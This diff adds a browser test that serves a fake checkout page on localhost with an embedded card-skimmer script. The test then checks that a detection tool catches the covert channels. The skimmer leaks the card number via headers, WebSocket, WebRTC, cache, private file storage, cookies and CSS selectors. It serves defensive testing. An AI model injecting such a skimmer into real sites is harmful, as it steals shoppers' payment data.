@@ -1,0 +1,52 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { withBrowser } from '../../../net/browser.ts'
+import { visit } from './visit.ts'
+
+const chromium = inject('chromium')
+
+/** What is typed leaves by ways that are in no address and no body, or is kept in places that are no storage by name. */
+const thief = `
+const f = document.forms[0].cardnumber;
+f.addEventListener('change', async () => {
+  fetch('/a', { headers: { 'x-trace': f.value } });
+  const x = new XMLHttpRequest(); x.open('GET', '/b'); x.setRequestHeader('x-span', f.value); x.send();
+  try { new WebSocket('ws://' + location.host + '/w', [f.value]); } catch {}
+  const p = new RTCPeerConnection(); p.createDataChannel(f.value); p.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1', username: f.value, credential: 'x' }] });
+  (await caches.open('c')).put('/font', new Response(f.value));
+  const file = await (await navigator.storage.getDirectory()).getFileHandle('t', { create: true });
+  const w = await file.createWritable(); await w.write(f.value); await w.close();
+  cookieStore.set('theme', f.value);
+});
+const sheet = new CSSStyleSheet(); sheet.replaceSync('input[value^="4"]{background:url(/four.png)}'); document.adoptedStyleSheets = [sheet];`
+
+describe.runIf(chromium)('ways out that are in no address and no body', () => {
+  let server: Server
+  let url = ''
+  beforeAll(async () => {
+    const page = `<!doctype html><title>Checkout</title><form method=post action=/pay><label>Card number <input name=cardnumber autocomplete=cc-number></label><button>Pay</button></form><script>${thief}</script>`
+    server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(page))
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/checkout`
+  })
+  afterAll(() => {
+    server.close()
+    server.closeAllConnections()
+  })
+
+  it('are seen', async () => {
+    const { signal } = new AbortController()
+    const seen = await withBrowser({ executable: chromium! }, (browser) =>
+      visit(browser, { url, steps: [], profile: { name: 'desktop' }, signal }),
+    )
+    const carrying = seen.requests.filter((item) => item.carries === 'plain')
+    expect([...new Set(carrying.map(({ kind, url: to }) => `${kind} ${to.replace(/^.*\//, '')}`))].sort()).toEqual(
+      expect.arrayContaining(['header a', 'header b', 'webrtc ', 'websocket w']),
+    )
+    expect([...new Set(seen.stored)].sort()).toEqual(
+      expect.arrayContaining(['cache entry', 'cookie theme', 'private file']),
+    )
+    expect(seen.readingStyles).toHaveLength(1)
+  }, 60_000)
+})
